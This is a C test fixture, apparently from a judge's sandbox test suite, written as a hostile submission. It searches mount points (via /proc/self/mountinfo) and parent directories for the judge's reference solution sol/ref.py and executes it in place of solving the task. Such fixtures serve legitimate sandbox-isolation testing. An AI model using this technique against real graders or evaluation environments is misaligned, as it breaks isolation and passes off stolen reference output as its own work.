// attack: run the reference solution a judge.toml names (`solution = "python3 sol/ref.py"`): the script at its compiled-in path, below every mount point, or a staged copy in the judge's scratch directory
// setup: reference (tests/hostile_package.rs)
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_script(const char *path) {
    if (access(path, R_OK) == 0) execl("/usr/bin/python3", "python3", path, (char *)0);
}

static void walk(const char *dir, int depth) {
    DIR *d = opendir(dir);
    struct dirent *e;
    if (!d || depth < 0) { if (d) closedir(d); return; }
    while ((e = readdir(d))) {
        char p[PATH_MAX];
        struct stat st;
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        if (lstat(p, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) walk(p, depth - 1);
        else if (!strcmp(e->d_name, "ref.py")) try_script(p);
    }
    closedir(d);
}

int main(void) {
    char line[8192], mp[4096], p[PATH_MAX], cwd[PATH_MAX];
    FILE *m;
    try_script("@ROOT@/sol/ref.py");
    m = fopen("/proc/self/mountinfo", "r");
    while (m && fgets(line, sizeof line, m))
        if (sscanf(line, "%*s %*s %*s %*s %4095s", mp) == 1) {
            snprintf(p, sizeof p, "%s/sol/ref.py", mp);
            try_script(p);
        }
    if (getcwd(cwd, sizeof cwd)) {
        char *slash = strrchr(cwd, '/');
        if (slash) *slash = 0;
        walk(cwd, 4);
    }
    walk("@ROOT@", 4);
    printf("0\n0\n");
    return 0;
}
